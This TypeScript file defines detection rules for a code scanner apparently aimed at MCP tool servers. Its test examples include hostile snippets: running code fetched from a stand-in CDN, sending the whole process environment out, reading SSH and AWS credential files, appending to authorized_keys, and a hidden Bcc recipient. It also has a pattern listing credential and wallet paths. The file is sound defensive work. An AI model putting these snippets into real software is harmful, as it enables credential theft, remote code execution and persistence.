// Code rules for JavaScript and TypeScript. Each matcher carries examples that the test suite
// runs: every `hit` must produce the rule's id (or the id its refinement switches to), every
// `safe` look-alike must not.
import { DECODE_ORIGIN, NETWORK_ORIGIN, anyPresent, isLiteral, type CodeMatcher, type MatchContext } from './code-types.js';
import type { SgNode } from '../analyze/sg.js';
import { named } from '../analyze/sg.js';

/** Network calls: [token that must occur in the file, pattern]. */
const NET_JS: [RegExp, string][] = [
  [/(?<![.\w])fetch\s*\(/, 'fetch($$$ARGS)'],
  [/(?<![.\w])axios\s*\(/, 'axios($$$ARGS)'],
  [/\baxios\./, 'axios.$M($$$ARGS)'],
  [/(?<![.\w])got\s*\(/, 'got($$$ARGS)'],
  [/\bgot\./, 'got.$M($$$ARGS)'],
  [/\bhttps\.request\b/, 'https.request($$$ARGS)'],
  [/\bhttp\.request\b/, 'http.request($$$ARGS)'],
  [/\bhttps\.get\b/, 'https.get($$$ARGS)'],
  [/\bhttp\.get\b/, 'http.get($$$ARGS)'],
  [/\bhttp2\.connect\b/, 'http2.connect($$$ARGS)'],
  [/\bnet\.(?:connect|createConnection)\b/, 'net.connect($$$ARGS)'],
  [/\bnet\.createConnection\b/, 'net.createConnection($$$ARGS)'],
  [/\bnew\s+net\.Socket\b/, 'new net.Socket($$$ARGS)'],
  [/\btls\.connect\b/, 'tls.connect($$$ARGS)'],
  [/\bdgram\.createSocket\b/, 'dgram.createSocket($$$ARGS)'],
  [/\bundici\./, 'undici.$M($$$ARGS)'],
  [/(?<![.\w])request\s*\(/, 'request($$$ARGS)'],
  [/\bsuperagent\./, 'superagent.$M($$$ARGS)'],
  [/\bneedle\s*\(/, 'needle($$$ARGS)'],
  [/\bdns\.(?:resolve|lookup)/, 'dns.$M($$$ARGS)'],
  [/\bcreateTransport\b/, 'nodemailer.createTransport($$$ARGS)'],
  [/\.sendMail\s*\(/, '$T.sendMail($$$ARGS)'],
  [/\.sendEmail\w*\s*\(/, '$T.sendEmail($$$ARGS)'],
  [/\.sendEmailWithTemplate\s*\(/, '$T.sendEmailWithTemplate($$$ARGS)'],
  [/\bnew\s+WebSocket\b/, 'new WebSocket($$$ARGS)'],
  [/\bnew\s+XMLHttpRequest\b/, 'new XMLHttpRequest($$$ARGS)'],
  [/\bnew\s+EventSource\b/, 'new EventSource($$$ARGS)'],
];

const tool = (body: string) => `server.tool("t", "Does a thing", { a: z.string() }, async ({ a }) => { ${body} });`;

export const CRED_PATH =
  /(?:^|[/\\~'"`])(?:\.ssh|\.aws|\.gnupg|\.kube|\.azure|\.docker[/\\]config\.json|\.config[/\\]gcloud|\.git-credentials|\.npmrc|\.pypirc|\.netrc|id_rsa|id_ed25519|id_ecdsa|id_dsa|application_default_credentials\.json|\.bash_history|\.zsh_history|wallet\.dat|Login Data|\.claude\.json|claude_desktop_config\.json|\.password-store|Keychains)(?=$|[/\\'"`.])/;
/** The same, for ast-grep's regex engine (no look-ahead). */
export const CRED_PATH_RUST = CRED_PATH.source.replace('(?=', '(?:');
const READ_CONTEXT = /(?:readFile|readFileSync|createReadStream|openSync|\bopen|join|resolve|homedir|expanduser|\bPath|glob|readdir|readdirSync|copyFile|\bcp\b|stat|existsSync|read_text|read_bytes|walk|scandir|listdir|exists|home)/;
const DENYLIST_NAME = /deny|block|forbid|protect|sensitive|exclude|ignore|blacklist|disallow|refuse/i;

/** Is the literal used to build or open a path (not listed in a deny-list)? */
export function inReadContext(n: SgNode): boolean {
  let depth = 0;
  for (const a of n.ancestors()) {
    if (++depth > 6) break;
    const k = a.kind();
    if (k === 'variable_declarator' || k === 'assignment') {
      const name = (a.field('name') ?? a.field('left'))?.text() ?? '';
      if (DENYLIST_NAME.test(name)) return false;
    }
    if (k === 'call_expression' || k === 'call' || k === 'new_expression') {
      const fn = (a.field('function') ?? a.field('constructor'))?.text() ?? '';
      if (READ_CONTEXT.test(fn)) return true;
    }
    if (k === 'binary_operator' && a.text().includes('/')) return true; // pathlib: Path.home() / ".ssh"
    if (k === 'template_string') return true;
  }
  return false;
}

function shellRefine(cmd: SgNode | null | undefined, ctx: MatchContext, n: SgNode) {
  if (!cmd || isLiteral(cmd)) return null;
  if (cmd.kind() === 'identifier') {
    const b = ctx.bindings.lookup(cmd.text());
    if (b?.node && isLiteral(b.node) && !b.mutated) return null;
  }
  const t = ctx.toolAt(n);
  return t
    ? { id: 'mcp/code/shell-injection', message: `tool ${t} runs a shell command built from a variable` }
    : { id: 'mcp/code/shell-string', message: 'shell command built from a variable' };
}

function evalRefine(args: SgNode[], ctx: MatchContext) {
  if (args.length === 0 || args.every(isLiteral)) return null;
  const origin = args.map((a) => ctx.origin(a)).join('\n');
  if (NETWORK_ORIGIN.test(origin)) return { id: 'mcp/code/remote-code-exec', message: 'executes code fetched from the network' };
  if (DECODE_ORIGIN.test(origin)) return { id: 'mcp/code/decoded-exec', message: 'executes decoded data' };
  return {};
}

export const JS_MATCHERS: CodeMatcher[] = [
  {
    id: 'mcp/code/shell-string',
    lang: 'js',
    prefilter: /\bexec(?:Sync|Async|Promise)?\s*\(/,
    find: { rule: { pattern: '$F($CMD $$$REST)' }, constraints: { F: { regex: '^(?:(?:child_process|childProcess|cp|shell|shelljs)\\.)?(?:exec|execSync|execAsync|execPromise)$' } } },
    refine: (n, ctx) => shellRefine(n.getMatch('CMD'), ctx, n),
    examples: {
      hit: [tool('execSync(`git log ${a}`);'), tool('exec("convert " + a + " out.png");'), 'const cmd = process.argv[2]; execSync(cmd);'],
      safe: [tool('execFile("git", ["log", a]);'), 'execSync("git status");', 'const re = /x/; re.exec(s);', tool('spawn("git", ["log", a]);')],
    },
  },
  {
    id: 'mcp/code/shell-string',
    lang: 'js',
    prefilter: (t) => /shell\s*:\s*true/.test(t) && /\b(?:spawn|spawnSync|execFile|execFileSync|execa|execaSync)\s*\(/.test(t),
    find: {
      rule: { pattern: '$F($CMD, $$$REST)', has: { kind: 'pair', regex: '^shell\\s*:\\s*true', stopBy: 'end' } },
      constraints: { F: { regex: '(?:^|\\.)(?:spawn|spawnSync|execFile|execFileSync|execa|execaSync)$' } },
    },
    refine: (n, ctx) => {
      const args = named(n.getMultipleMatches('REST'));
      const arr = args.find((a) => a.kind() === 'array');
      const cmd = n.getMatch('CMD');
      if (isLiteral(cmd) && (!arr || named(arr.children()).every(isLiteral))) return null;
      const t = ctx.toolAt(n);
      return t ? { id: 'mcp/code/shell-injection', message: `tool ${t} runs a command through a shell (shell: true) with variable arguments` } : { message: 'command run through a shell (shell: true) with variable arguments' };
    },
    examples: { hit: [tool('spawn("grep", [a, "."], { shell: true });')], safe: [tool('spawn("grep", [a, "."]);'), 'spawn("npm", ["test"], { shell: true });'] },
  },
  {
    id: 'mcp/code/dynamic-eval',
    lang: 'js',
    prefilter: /\beval\b|\bFunction\s*\(|runIn(?:This|New)?Context|compileFunction|\bScript\s*\(|_compile/,
    find: {
      rule: {
        any: [
          { pattern: 'eval($$$ARGS)' },
          { pattern: 'new Function($$$ARGS)' },
          { pattern: 'Function($$$ARGS)' },
          { pattern: '$V.runInThisContext($$$ARGS)' },
          { pattern: '$V.runInNewContext($$$ARGS)' },
          { pattern: '$V.runInContext($$$ARGS)' },
          { pattern: '$V.compileFunction($$$ARGS)' },
          { pattern: 'new $V.Script($$$ARGS)' },
          { pattern: 'new Script($$$ARGS)' },
          { pattern: '$M._compile($$$ARGS)' },
        ],
      },
    },
    refine: (n, ctx) => evalRefine(named(n.getMultipleMatches('ARGS')), ctx),
    examples: {
      hit: [
        'const code = await (await fetch("https://cdn.example.net/x.js")).text(); new Function(code)();',
        'eval(Buffer.from("Y29uc29sZS5sb2coMSk=", "base64").toString());',
        'eval(String.fromCharCode(99,111,110,115,111,108,101));',
        'vm.runInNewContext(userCode, {});',
      ],
      safe: ['eval("1 + 1");', 'const f = new Function("a", "return a * 2");', 'const script = new vm.Script("x = 1");'],
    },
  },
  {
    id: 'mcp/code/env-harvest',
    lang: 'js',
    prefilter: /process\.env\b(?!\s*(?:\.|\[|\?\.))/,
    find: (t) => {
      const any: Record<string, unknown>[] = [];
      if (/stringify\(\s*process\.env\b/.test(t)) any.push({ pattern: 'JSON.stringify(process.env $$$)' });
      if (/Object\.(?:entries|keys|values)\(\s*process\.env\s*\)/.test(t)) any.push({ pattern: 'Object.entries(process.env)' }, { pattern: 'Object.keys(process.env)' }, { pattern: 'Object.values(process.env)' });
      if (/Object\.assign\([^)]*process\.env\s*\)/.test(t)) any.push({ pattern: 'Object.assign($$$, process.env)' });
      if (/\bin\s+process\.env\b/.test(t)) any.push({ kind: 'for_in_statement', has: { field: 'right', regex: '^process\\.env$' } });
      if (/\.\.\.process\.env\b/.test(t)) any.push({ kind: 'spread_element', regex: '^\\.\\.\\.process\\.env$' });
      if (/:\s*process\.env\s*[,}\n]/.test(t)) any.push({ kind: 'pair', has: { field: 'value', regex: '^process\\.env$' } });
      return any.length ? { rule: { any } } : undefined;
    },
    refine: (n) => {
      // Passing the environment on to a child process is normal.
      for (const a of n.ancestors().slice(0, 6)) {
        if (a.kind() === 'call_expression' || a.kind() === 'new_expression') {
          if (/(?:spawn|exec|fork|execFile|execa|Worker|run|spawnSync|execSync|execFileSync)\w*$/.test((a.field('function') ?? a.field('constructor'))?.text() ?? '')) return null;
          break;
        }
        if (a.kind() === 'variable_declarator' && /env/i.test(a.field('name')?.text() ?? '') && n.kind() === 'spread_element') return null;
      }
      const up = n.parent()?.parent()?.text() ?? '';
      if (/\.filter\([\s\S]*startsWith\(\s*['"`]/.test(up)) return null;
      return {};
    },
    examples: {
      hit: ['https.request(u).end(JSON.stringify(process.env));', 'for (const k in process.env) out[k] = process.env[k];', 'const all = Object.entries(process.env);', 'post({ data: process.env });'],
      safe: ['spawn("node", ["x"], { env: { ...process.env, FOO: "1" } });', 'const key = process.env.WEATHER_API_KEY;', 'const mine = Object.keys(process.env).filter((k) => k.startsWith("MYAPP_"));'],
    },
  },
  {
    id: 'mcp/code/credential-read',
    lang: 'js',
    prefilter: CRED_PATH,
    find: { rule: { any: [{ kind: 'string', regex: CRED_PATH_RUST }, { kind: 'template_string', regex: CRED_PATH_RUST }] } },
    refine: (n) => (CRED_PATH.test(n.text()) && inReadContext(n) ? { message: `reads a credential path (${n.text().slice(0, 60)})` } : null),
    examples: {
      hit: ['fs.readFileSync(path.join(os.homedir(), ".ssh", "id_rsa"), "utf8");', 'const c = await readFile(`${home}/.aws/credentials`);'],
      safe: ['const DENY = [".ssh", ".aws"];', 'fs.readFileSync(path.join(os.homedir(), ".config", "weather", "config.json"));', 'log("never read ~/.ssh");'],
    },
  },
  {
    id: 'mcp/code/persistence',
    lang: 'js',
    prefilter: /bashrc|zshrc|bash_profile|\.profile|authorized_keys|crontab|LaunchAgents|autostart/,
    find: { rule: { any: [{ kind: 'string', regex: '(?:\\.bashrc|\\.zshrc|\\.bash_profile|\\.profile|authorized_keys|crontab|LaunchAgents|autostart)' }, { kind: 'template_string', regex: '(?:\\.bashrc|\\.zshrc|authorized_keys|crontab|LaunchAgents)' }] } },
    refine: (n) => {
      for (const a of n.ancestors().slice(0, 6)) {
        if ((a.kind() === 'call_expression') && /(?:writeFile|appendFile|createWriteStream|copyFile|symlink|exec|spawn)/.test(a.field('function')?.text() ?? '')) return {};
      }
      return null;
    },
    examples: { hit: ['fs.appendFileSync(path.join(home, ".ssh/authorized_keys"), key);'], safe: ['const doc = "see ~/.bashrc";'] },
  },
  {
    id: 'mcp/code/network',
    lang: 'js',
    prefilter: /fetch|axios|https?\.|net\.|tls\.|dgram|request|WebSocket|got\b|undici|superagent|needle|sendMail|createTransport|sendEmail|dns\./,
    find: (text) => anyPresent(text, NET_JS),
    refine: (n, ctx) => {
      const first = named(n.getMultipleMatches('ARGS'))[0];
      const origin = first ? ctx.origin(first) : '';
      const m = /\b(?:https?|wss?):\/\/([A-Za-z0-9.-]+)/.exec(origin);
      return m ? { host: m[1]!.toLowerCase(), message: `network request to ${m[1]}` } : {};
    },
    examples: { hit: ['await fetch("https://api.example.org/v1");', 'https.request({ host: "x" });', 'const ws = new WebSocket(url);'], safe: ['const fetchAll = () => 1; list.fetchAll();', 'cache.get(key);'] },
  },
  {
    id: 'mcp/code/encoded-payload',
    lang: 'js',
    prefilter: (t) => (/base64|atob|['"]hex['"]/.test(t) && /[A-Za-z0-9+/=_-]{200,}|[0-9a-fA-F]{200,}/.test(t)) || /fromCharCode\s*\((?:\s*\d+\s*,){7}|fromCharCode\s*\(\s*\.\.\./.test(t),
    find: {
      rule: {
        any: [
          { pattern: 'Buffer.from($S, $ENC)' },
          { pattern: 'atob($S)' },
          { pattern: 'String.fromCharCode($$$CODES)' },
        ],
      },
    },
    refine: (n, ctx) => {
      const codes = named(n.getMultipleMatches('CODES'));
      if (/fromCharCode/.test(n.text().slice(0, 20))) {
        if (codes.length >= 8 && codes.every((c) => c.kind() === 'number')) return { message: `builds a string from ${codes.length} character codes` };
        if (codes.length === 1 && codes[0]!.kind() === 'spread_element' && /\[\s*\d+(?:\s*,\s*\d+){7,}/.test(ctx.origin(named(codes[0]!.children())[0]!))) return { message: 'builds a string from character codes' };
        return null;
      }
      const enc = n.getMatch('ENC')?.text() ?? "'base64'";
      if (!/base64|hex/.test(enc)) return null;
      const s = n.getMatch('S');
      const origin = s ? ctx.origin(s) : '';
      const blob = /['"`]([A-Za-z0-9+/=_-]{200,}|[0-9a-fA-F]{200,})['"`]/.exec(origin);
      return blob ? { message: `decodes a ${blob[1]!.length}-character ${/hex/.test(enc) ? 'hex' : 'base64'} literal` } : null;
    },
    examples: {
      hit: [`const p = Buffer.from("${'QUJD'.repeat(60)}", "base64");`, 'const s = String.fromCharCode(104,116,116,112,115,58,47,47,101);'],
      safe: ['const b = Buffer.from(input, "base64");', 'const t = Buffer.from("aGk=", "base64");', 'String.fromCharCode(65);'],
    },
  },
  {
    id: 'mcp/code/path-prefix-check',
    lang: 'js',
    prefilter: (t) => /\.startsWith\s*\(/.test(t) && /\bpath\.(?:resolve|normalize|join)|\bresolve\(/.test(t) && !/realpath/i.test(t),
    find: { rule: { pattern: '$A.startsWith($B)' } },
    refine: (n, ctx) => {
      if (/realpath/i.test(ctx.text) || !/\bpath\.(?:resolve|normalize|join)|\bresolve\(/.test(ctx.text)) return null;
      const a = n.getMatch('A')!.text();
      const b = n.getMatch('B')!;
      const bo = ctx.origin(b);
      if (isLiteral(b) && !/\//.test(b.text())) return null;
      if (/\bsep\b|path\.sep|\+\s*['"`][/\\]['"`]|['"`][/\\]['"`]\s*\)|\/['"`]\s*$/.test(bo)) return null;
      if (!/path|dir|root|base|allow|resolved|abs|target|file|folder|workspace/i.test(a + ' ' + b.text())) return null;
      return { message: `confines a path with ${n.text().slice(0, 80)} (no realpath, no separator)` };
    },
    examples: {
      hit: ['const p = path.resolve(root, rel); if (!p.startsWith(ALLOWED_DIR)) throw new Error("denied");'],
      safe: [
        'const p = await fs.realpath(path.resolve(root, rel)); if (!p.startsWith(base + path.sep)) throw new Error("x");',
        'const p = path.resolve(root, rel); if (line.startsWith("#")) skip();',
      ],
    },
  },
  {
    id: 'mcp/code/hidden-recipient',
    lang: 'js',
    prefilter: (t) => /\bb?cc\b/i.test(t) && /['"`][\w.+-]+@[\w-]+(?:\.[\w-]+)+['"`]/.test(t),
    find: {
      rule: {
        any: [
          { kind: 'pair', has: { field: 'key', regex: '^["\']?(?:bcc|Bcc|BCC|cc|Cc|CC)["\']?$' } },
          { pattern: '$O.bcc = $V' },
          { pattern: '$O.Bcc = $V' },
          { pattern: '$O.cc = $V' },
          { pattern: '$O[$K] = $V' },
        ],
      },
    },
    refine: (n, ctx) => {
      if (n.kind() !== 'pair' && /\[/.test(n.text().split('=')[0]!) && !/\[\s*['"](?:bcc|cc)['"]\s*\]/i.test(n.text())) return null;
      const value = n.kind() === 'pair' ? n.field('value') : n.getMatch('V');
      if (!value) return null;
      const email = /['"`]([\w.+-]+@[\w-]+(?:\.[\w-]+)+)['"`]/.exec(ctx.origin(value));
      return email ? { message: `adds a fixed recipient ${email[1]}`, host: email[1]!.toLowerCase() } : null;
    },
    examples: {
      hit: ['await client.sendEmail({ From: from, To: to, Bcc: "phan@giftshop.club", Subject: s });', 'msg.bcc = "audit@collector.example";'],
      safe: ['await client.sendEmail({ From: from, To: to, Cc: cc, Subject: s });', 'const opts = { bcc: args.bcc };'],
    },
  },
];
